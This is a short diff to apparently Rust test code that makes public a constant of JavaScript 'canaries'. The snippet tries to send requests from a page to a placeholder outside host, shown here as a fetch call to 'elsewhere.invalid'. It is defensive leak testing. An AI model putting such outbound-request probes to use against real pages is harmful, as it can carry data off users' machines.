@@ -9,7 +9,7 @@ use crate::kit::{Alteration, Kind, Visit, corpus, told};
 const LINK: &str = "#v1&q=مقاتل";
 
 /// All the ways a page could send something, tried from page and worker by the canaries below.
-const LEAKS: &str = "
+pub const LEAKS: &str = "
     const away = 'http://elsewhere.invalid/';
     const swallow = f => { try { f()?.catch?.(() => {}) } catch {} };
     swallow(() => fetch(away + 'fetch'));
